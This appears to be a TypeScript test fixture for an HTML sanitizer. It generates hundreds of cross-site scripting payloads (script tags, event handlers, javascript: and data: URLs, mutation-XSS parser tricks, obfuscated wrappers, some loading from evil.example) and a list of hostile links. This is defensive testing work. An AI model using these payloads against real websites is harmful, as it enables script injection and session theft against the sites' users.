/** What every payload tries to run: the test looks for the mark that it would leave. */
const RUN = 'top.__hit=1'
const EVIL = 'https://evil.example'

/** Ways to run a script, from the filter evasion lists of OWASP and the fixtures of DOMPurify. */
const vectors: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src='x'/onerror='${RUN}'//`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#x6A;avascript&colon;${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>x</details><input autofocus onfocus=${RUN}>`,
  `<form action="javascript:${RUN}"><button id=x>x</button></form><button form=x formaction="javascript:${RUN}">x`,
  `<p style="animation-name:x" onanimationstart=${RUN} onmouseover=${RUN}>x</p><style>@import '${EVIL}/x.css'</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}"><base href="${EVIL}/">`,
  `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}></audio><body onload=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template><xss onclick=${RUN} tabindex=1 id=x>x</xss>`,
  `<link rel=stylesheet href="${EVIL}/x.css"><link rel=import href="data:text/html,<script>${RUN}</script>">`,
]

const inMiddle = (text: string, change: (sign: string) => string): string =>
  text.replace(/(?<=<\w)\w/g, change)

/** Ways to hide a payload: in markers, in other markup, in letters of another size. */
const wrappers: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<p>Hei</p><table><tr><td>${payload}</td></tr></table>`,
  (payload) => `[txt|${payload}]`,
  (payload) => inMiddle(payload, (sign) => `[txt|${sign}]`),
  (payload) => payload.replaceAll('javascript', 'java[txt|scr[txt|ip]t]').replaceAll('on', 'o[txt|]n'),
  (payload) => payload.replaceAll('<', '[txt|<]').replaceAll('=', '=[txt|]'),
  (payload) => inMiddle(payload, (sign) => sign.toUpperCase()).replaceAll('javascript', 'JaVaScRiPt'),
  (payload) => `<a href="https://example.fi" title="x">${payload}`,
  (payload) => `"><!--><b title='[txt|'>${payload}]<!-- `,
  (payload) => `<svg><style>${payload}</style></svg><textarea>${payload}</textarea>${payload}`,
]

const IMG = `<img src=x onerror=${RUN}>`

/** Texts that the parser reads in another way the second time, or that only one of the two cleaners could miss. */
const oddities: readonly string[] = [
  `<math><annotation-xml encoding="text/html"><svg><style>${IMG}</style></svg></annotation-xml></math>`,
  `<svg><foreignObject><p><style><a title="</style>${IMG}">`,
  `<svg><desc><p title="</desc></svg>${IMG}"></desc></svg>`,
  `<svg><title><template><img title="</template></title></svg>${IMG}">`,
  `<svg><set attributeName=href to="javascript:${RUN}"/><a id=x><text>x</text></a></svg>`,
  `<a href="https://example.fi"><svg><style></a>${IMG}</style></svg>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<template><template><script>${RUN}</script></template></template>`,
  `<style><!--</style>${IMG}--></style>`,
  `<xmp><p title="</xmp>${IMG}"><noembed><p title="</noembed>${IMG}"><noframes><p title="</noframes>${IMG}">`,
  `<title><p title="</title>${IMG}"><textarea><p title="</textarea>${IMG}">`,
  `<plaintext>${IMG}`,
  `<select><option><style></option></select>${IMG}</style>`,
  `<select><template><script>${RUN}</script></template></select>`,
  `<table><tbody><tr><td><table><caption>${IMG}<svg><a><caption></caption></a><style></table></style>`,
  `<form><form><math><mi><mglyph><svg><mtext><textarea><path id="</textarea>${IMG}">`,
  `<img srcset="x 1x, ${EVIL}/x.png 2x" onerror=${RUN}><picture><source srcset="${EVIL}/y.png"><img src=x></picture>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a><a href="jav&Tab;ascript&colon;${RUN}">x</a>`,
  `<a href="&NewLine;javascript:${RUN}">x</a><a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="https:javascript:${RUN}">x</a>`,
  `<a href='https://example.fi' href="javascript:${RUN}">x</a>`,
  `<a href="DATA:text/html;base64,PHNjcmlwdD50b3AuX19oaXQ9MTwvc2NyaXB0Pg==">x</a>`,
  `<a href="https://example.fi" ping="${EVIL}" download target=_self rel=opener>x</a>`,
  `<a name=getElementById id=body href=https://example.fi>x</a><form id=document><input name=cookie></form>`,
  `[txt|[txt|${IMG}]]`,
  `<[txt|[txt|s]cript>${RUN}</[txt|script]>`,
  `<[t[txt|]xt|script]>${RUN}</[t[txt|]xt|script]>`,
  `<a href="[txt|[txt|java]script]:${RUN}">x</a>`,
  `&lt;[txt|script&gt;]${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
  `<b <script>${RUN}</script>>x</b><b/onclick=${RUN}/x=">"${IMG}>x`,
  `<!--><script>${RUN}</script>--><!-- --!>${IMG} -->`,
  `<![CDATA[>${IMG}]]><?xml version="1.0"?><?php ${IMG} ?>`,
  `<!DOCTYPE x [<!ENTITY y "${IMG}">]>&y;</p title="${IMG}"><image src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee><body onpageshow=${RUN}><frameset onload=${RUN}>`,
  `<p popover id=x onbeforetoggle=${RUN}>x</p><button popovertarget=x>x</button>`,
  `<p contenteditable autofocus onfocus=${RUN} tabindex=0 accesskey=x hidden dir=rtl aria-label=x>x</p>`,
  `<div style="background:url(${EVIL}/x);position:fixed;inset:0">x</div><table background="${EVIL}/y">`,
  `${'<b>'.repeat(100)}${IMG}${'</b>'.repeat(100)}`,
]

/** More than 300 of them, the same in every run. */
export const payloads: readonly string[] = [
  ...wrappers.flatMap((wrap) => vectors.map((vector) => wrap(vector))),
  ...oddities,
]

/** Whether a payload stands for others: every vector is in one of the ways to hide it, and each oddity is alone. */
export const standsForOthers = (index: number): boolean =>
  index >= wrappers.length * vectors.length ||
  Math.floor(index / vectors.length) === (index % vectors.length) % wrappers.length

/** Links of announcements that must never become links. */
export const hostileLinks: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  '//evil.example',
  '/\\evil.example',
  `[txt|javascript:${RUN}]`,
  `https://x.fi" onclick="${RUN}`,
  `javascript://x.fi/%0A${RUN}`,
]
